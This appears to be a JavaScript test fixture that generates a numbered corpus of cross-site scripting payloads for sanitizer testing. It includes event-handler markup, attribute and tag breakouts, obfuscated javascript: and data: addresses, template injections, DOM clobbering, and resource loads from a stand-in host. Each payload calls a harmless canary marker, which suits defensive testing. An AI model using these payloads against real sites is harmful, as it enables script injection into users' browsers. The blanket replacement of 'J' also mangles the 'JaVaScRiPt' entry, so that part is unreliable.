// Texts that run a script where they are taken for markup or for an address. They are made here, from
// the classes that the public lists name (OWASP's cheat sheet of filter evasion, DOMPurify's and
// ammonia's tests, PortSwigger's table of events), not copied from them. Each calls `canary(N)` with its
// own number, so that a bite says which it was.

// Markup that acts on its own or when pressed; J stands for the call.
const MARKUP = [
  "<script>J</script>", "<img src=x onerror=J>", "<img srcset=x onerror=J>", "<svg onload=J>", "<svg><script>J</script></svg>",
  "<svg><image href=x onerror=J />", "<svg><animate onbegin=J attributeName=x dur=1s>", "<svg><set onbegin=J attributename=x>",
  "<body onload=J>", "<iframe onload=J>", "<iframe srcdoc=\"<script>parent.J</script>\"></iframe>", "<iframe src=\"javascript:parent.J\"></iframe>",
  "<object data=\"javascript:J\"></object>", "<object data=x onerror=J></object>", "<embed src=\"javascript:J\">",
  "<video src=x onerror=J></video>", "<video><source onerror=J></video>", "<audio src=x onerror=J></audio>", "<audio onloadstart=J src=x></audio>",
  "<details open ontoggle=J><summary>x</summary></details>", "<input autofocus onfocus=J>", "<select autofocus onfocus=J></select>",
  "<textarea autofocus onfocus=J></textarea>", "<button onclick=J>x</button>", "<a href=\"javascript:J\">x</a>", "<a href=x onmouseover=J>x</a>",
  "<div onpointerover=J tabindex=1 onfocus=J onclick=J>x</div>", "<p contenteditable oninput=J onfocus=J>x</p>", "<marquee onstart=J>x</marquee>",
  "<style>@keyframes k{}</style><b style=\"animation:k 1s\" onanimationstart=J>x</b>", "<style onload=J></style>", "<link rel=stylesheet href=x onerror=J>",
  "<form action=\"javascript:J\"><input type=submit></form>", "<form><button formaction=\"javascript:J\">x</button></form>",
  "<svg><a href=\"javascript:J\"><text y=9>x</text></a></svg>", "<svg><a><animate attributeName=href values=\"javascript:J\" /><text y=9>x</text></a></svg>",
  "<math><maction href=\"javascript:J\">x</maction></math>", "<svg><use href=\"data:image/svg+xml,<svg id=a xmlns='http://www.w3.org/2000/svg'><script>J</script></svg>#a\" /></svg>",
  "<meta http-equiv=refresh content=\"0;url=javascript:J\">", "<base href=\"javascript:/a/-J-//\"><a href=\"x\">x</a>",
  "<template shadowrootmode=open><img src=x onerror=J></template>", "<dialog open onclose=J><form method=dialog><button>x</button></form></dialog>",
  "<div popover id=p onbeforetoggle=J>x</div><button popovertarget=p>x</button>", "<input type=image src=x onerror=J>",
];

// What stands round it, to leave where it is, or to look like something else. P stands for the markup.
const DISGUISES = {
  plain: (p) => p,
  "out of an attribute": (p) => `"'>${p}`,
  "out of a title": (p) => `</title></textarea></style></script>${p}`,
  "out of a comment": (p) => `--!>-->${p}<!--`,
  "with slashes and capitals": (p) => p.replace(/^<(\w+) /, (_, tag) => `<${tag.toUpperCase()}/`),
  "with a tab": (p) => p.replace(/^<(\w+) /, "<$1\t"),
  "behind an open tag": (p) => `<x y="${p}">${p}`,
  "behind mathematics": (p) => `<math><mtext><table><mglyph><style><!--</style>${p}`,
  "behind a noscript": (p) => `<noscript><p title="</noscript>${p}">`,
  "behind a section of data": (p) => `<svg><![CDATA[><b>]]></svg>${p}`,
  "as entities": (p) => p.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("\"", "&quot;"),
  "as Markdown's own": (p) => `](x) ![x](x"${p}`,
};

// Addresses that run: the scheme, and how it hides.
const SCHEMES = ["javascript:J", "JaVaScRiPt:J", "vbscript:J", "data:text/html,<script>opener.J</script>", "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMCk8L3NjcmlwdD4=", "blob:J", "file:///etc/passwd#J", "view-source:javascript:J", "javascript://https://e.example/%0aJ"];
const HIDES = {
  plain: (a) => a, "a space first": (a) => ` ${a}`, "a control first": (a) => `\u0001${a}`, "a tab within": (a) => a.replace(/^(\w)/, "$1\t"),
  "a line within": (a) => a.replace(/^(\w)/, "$1\n"), "entities": (a) => a.replace(/^./, (c) => `&#${c.charCodeAt(0)};`).replace(":", "&colon;"),
  "percent": (a) => a.replace(":", "%3A"), "zero width": (a) => `\u200b${a}`, "a wide colon": (a) => a.replace(":", "\uff1a"),
};
// Addresses that may be there, with what would leave the attribute.
const LEAVING = ["https://e.example/\"onmouseover=\"J", "https://e.example/'onclick='J", "https://e.example/`onclick=`J", "https://e.example/><imgsrc=xonerror=J>", "mailto:a@b.example?subject=\"onclick=\"J", "HTTPS://e.example/&quot;onclick=J", "https://e.example/javascript:J", "http://e.example:80@javascript:J"];
// What template languages, spreadsheets, shells and databases take for their own; clobbering of names.
const OTHERS = [
  "{{constructor.constructor('J')()}}", "${J}", "#{J}", "<%= J %>", "{% J %}", "[[J]]", "`J`", "');J;('", "\");J;//", "\\\";J;//", "</script><script>J</script>", "]]><script>J</script>",
  "\u2028J\u2029", "\u202eJ", "+ADw-script+AD4-J+ADw-/script+AD4-", "\u00bcscript\u00beJ\u00bc/script\u00be", "%3Cscript%3EJ%3C/script%3E", "&lt;script&gt;J&lt;/script&gt;", "&#60script>J</script>",
  "<img name=querySelector id=currentScript onerror=J src=x>", "<form id=fetch><input name=method onfocus=J></form>", "<a id=customElements></a><a id=customElements name=get href=javascript:J>x</a>",
  "<evidence-walk src=\"javascript:J\">x</evidence-walk>", "<script src=//canary.invalid/J></script>", "<img src=//canary.invalid/J>", "<link rel=stylesheet href=//canary.invalid/J>", "<style>@import '//canary.invalid/J'</style>", "<b style=\"background:url(//canary.invalid/J)\">x</b>",
  "<iframe src=//canary.invalid/J></iframe>", "<meta http-equiv=refresh content=\"0;url=//canary.invalid/J\">", "<video poster=//canary.invalid/J></video>", "<object data=//canary.invalid/J></object>",
];

const found = [];
const add = (kind, text) => {
  const number = found.length;
  const full = text.replaceAll("J", `canary(${number})`);
  if (!found.some((payload) => payload.text === full)) found.push({ number, kind, text: full });
};
for (const [how, disguise] of Object.entries(DISGUISES)) for (const markup of MARKUP) add(`markup, ${how}`, disguise(markup));
for (const [how, hide] of Object.entries(HIDES)) for (const scheme of SCHEMES) add(`address, ${how}`, hide(scheme));
for (const address of LEAVING) add("address, leaving", address);
for (const other of OTHERS) add("other", other);

/** Every payload: its number, its kind, its text. */
export const PAYLOADS = found;
/** Those that are addresses. */
export const ADDRESSES = found.filter(({ kind }) => kind.startsWith("address"));
